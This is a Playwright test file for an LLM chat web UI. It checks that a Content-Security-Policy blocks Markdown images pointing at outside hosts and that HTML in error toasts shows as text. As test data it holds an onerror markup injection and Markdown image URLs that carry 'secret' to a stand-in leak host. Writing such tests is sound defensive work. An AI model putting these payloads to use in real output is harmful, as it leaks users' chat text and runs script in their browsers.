"""What the page shows cannot hurt the person looking at it, in Chromium against the real server.

Markdown from people and models is rendered in the chat view: an image in it must not make the
browser contact another host (that would carry chat text away in the URL). Toasts render HTML:
text from templates and users must show there as text.
"""
from __future__ import annotations

import re
import socket
import threading
import time

import pytest
from playwright.sync_api import Page, expect

LEAK_HOST = "127.0.0.1:9"          # Chromium itself refuses port 9, so also ...
MARKUP = '<img src=x onerror="window.toastMarkupRan = true">'
TRIGGER = "Please show me the house rules."
# A shared template that renders normally but refuses one message, quoting markup.
REFUSING_TEMPLATE = (
    "{% if messages[-1]['content'] == '" + TRIGGER + "' %}"
    "{{ raise_exception('" + MARKUP + "') }}{% endif %}"
    "{% for message in messages %}<|im_start|>{{ message.role }}\n{{ message.content }}<|im_end|>\n"
    "{% endfor %}{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}")
UI_TIMEOUT = 60_000                # ms; the box is shared and may be busy

# Collects what the Content-Security-Policy refused, as the page itself reports it.
RECORD_VIOLATIONS = """
window.cspViolations = [];
document.addEventListener('securitypolicyviolation',
    e => window.cspViolations.push(e.violatedDirective + ' ' + e.blockedURI));
"""


class Listener:
    """... a host that listens and counts who connects: what would receive a leak on the wire."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.host = f"127.0.0.1:{self.sock.getsockname()[1]}"
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self):
        while not self._stop.is_set():
            try:
                connection, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self):
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def leak_images(listener: Listener) -> str:
    """Markdown images whose URLs would carry chat text to other hosts."""
    return " ".join(f"![x](http://{host}/leak?q=secret)" for host in (listener.host, LEAK_HOST))


class NetworkLog:
    """Chromium's network events for one page. A request the policy refuses still shows up as
    a request, then fails with the reason "csp" and gets no response: it never left the browser."""

    def __init__(self, page: Page):
        self.events: list[tuple[str, str, object]] = []
        page.on("request", lambda r: self.events.append(("request", r.url, None)))
        page.on("requestfailed", lambda r: self.events.append(("failed", r.url, r.failure)))
        page.on("response", lambda r: self.events.append(("response", r.url, r.status)))

    def to(self, host: str) -> list[tuple[str, str, object]]:
        return [event for event in list(self.events) if f"//{host}/" in event[1]]

    def assert_nothing_sent_to(self, host: str) -> None:
        seen = self.to(host)
        requests = [e for e in seen if e[0] == "request"]
        refused = [e for e in seen if e[0] == "failed" and e[2] == "csp"]
        assert len(refused) == len(requests) and not [e for e in seen if e[0] == "response"], seen


def open_app(page: Page, url: str) -> NetworkLog:
    """Opens the page with the network and the policy's refusals watched."""
    network = NetworkLog(page)
    page.add_init_script(RECORD_VIOLATIONS)
    page.goto(url)
    expect(page.locator("#chat-input textarea")).to_be_visible(timeout=UI_TIMEOUT)
    # the start-up event has run once this browser's key is stored; sending works from then on
    page.wait_for_function("() => !!localStorage.getItem('llm-workbench-browser-key')",
                           timeout=UI_TIMEOUT)
    return network


def tab(page: Page, name: str) -> None:
    page.get_by_role("tab", name=name, exact=True).click()


def assert_refused_before_sending(page: Page, network: NetworkLog, host: str) -> None:
    """Waits for the browser's attempt to load something from `host`, then checks that the
    policy refused it (rather than it going out and failing on the network)."""
    deadline = time.monotonic() + UI_TIMEOUT / 1000
    while not [e for e in network.to(host) if e[0] in ("failed", "response")]:
        assert time.monotonic() < deadline, f"the browser never tried {host}: {network.to(host)}"
        page.wait_for_timeout(100)     # lets playwright deliver the pending network events
    network.assert_nothing_sent_to(host)
    assert [v for v in violations(page) if host in v], violations(page)


def violations(page: Page) -> list[str]:
    return page.evaluate("window.cspViolations")


def test_page_is_served_with_a_content_security_policy(page, server_url):
    response = page.goto(server_url)
    policy = response.headers.get("content-security-policy", "")
    for directive in ("img-src 'self' data: blob:", "media-src 'self' data: blob:", "connect-src 'self'"):
        assert directive in policy, policy


def test_every_tab_works_under_the_policy(page, server_url):
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    open_app(page, server_url)
    # each tab's main control; where given, text the page-load events fetch from the server,
    # which shows connections to it still work
    for name, control, fetched in (
            ("Default", "#default-generate", None), ("Notebook", "#notebook-generate", None),
            ("Parameters", "text=Restore defaults", None), ("Model", "#model-info", "SmolLM2"),
            ("Instruction template", ".cm-content >> nth=1", "<|im_start|>user"),
            ("Chat", "#chat-send", None)):
        tab(page, name)
        expect(page.locator(control).first).to_be_visible()
        if fetched:
            expect(page.locator(control).first).to_contain_text(fetched)
    assert violations(page) == []
    assert errors == []


def test_image_in_a_typed_message_makes_no_request_to_another_host(page, server_url, listener):
    network = open_app(page, server_url)
    box = page.locator("#chat-input textarea")
    box.click()
    box.press_sequentially(f"My password is hunter2 {leak_images(listener)}")
    page.locator("#chat-send").click()
    for host in (listener.host, LEAK_HOST):
        # the message is on screen as Markdown, with the image in it ...
        image = page.locator(f'#chat-view [data-testid="user"] img[src*="{host}"]')
        expect(image).to_be_attached(timeout=UI_TIMEOUT)
        # ... and the browser refused to fetch it rather than sending anything
        assert_refused_before_sending(page, network, host)
    assert listener.connections == 0
    expect(page.locator("#chat-status")).to_contain_text("tokens", timeout=180_000)


def test_image_in_a_character_greeting_makes_no_request_to_another_host(page, server_url, listener):
    network = open_app(page, server_url)
    tab(page, "Parameters")
    tab(page, "Character")
    greeting = page.get_by_role("textbox", name=re.compile(r"^Greeting\b"))
    greeting.click()
    greeting.press_sequentially(f"Hello! {leak_images(listener)}")
    tab(page, "Chat")
    images = page.locator('#chat-view [data-testid="bot"] img[src*="/leak"]')
    # the greeting shows in a new chat; the edit may still be on its way, so click again as a person would
    deadline = time.monotonic() + UI_TIMEOUT / 1000
    while images.count() < 2:
        assert time.monotonic() < deadline, "the greeting never showed in a new chat"
        page.locator("#chat-new").click()
        try:
            expect(images).to_have_count(2, timeout=3_000)
        except AssertionError:
            pass
    for host in (listener.host, LEAK_HOST):
        assert_refused_before_sending(page, network, host)
    assert listener.connections == 0


def test_markup_in_a_template_refusal_shows_as_text_in_the_toast(page, server_url):
    open_app(page, server_url)
    tab(page, "Instruction template")
    editor = page.locator(".cm-content").nth(0)
    editor.click()
    page.keyboard.press("Control+A")
    page.keyboard.press("Delete")
    page.keyboard.insert_text(REFUSING_TEMPLATE)
    apply = page.locator("#template-apply")
    expect(apply).to_be_enabled(timeout=UI_TIMEOUT)      # the box renders the sample conversation
    apply.click()
    expect(page.locator("#template-in-use")).to_contain_text("the template you edited, applied at",
                                                              timeout=UI_TIMEOUT)

    tab(page, "Chat")
    box = page.locator("#chat-input textarea")
    box.click()
    box.press_sequentially(TRIGGER)
    page.locator("#chat-send").click()
    toast = page.get_by_test_id("toast-body").filter(has_text="refused")
    expect(toast).to_contain_text(MARKUP, timeout=UI_TIMEOUT)     # the markup, as literal text
    assert toast.locator("img").count() == 0
    assert page.evaluate("window.toastMarkupRan === undefined")
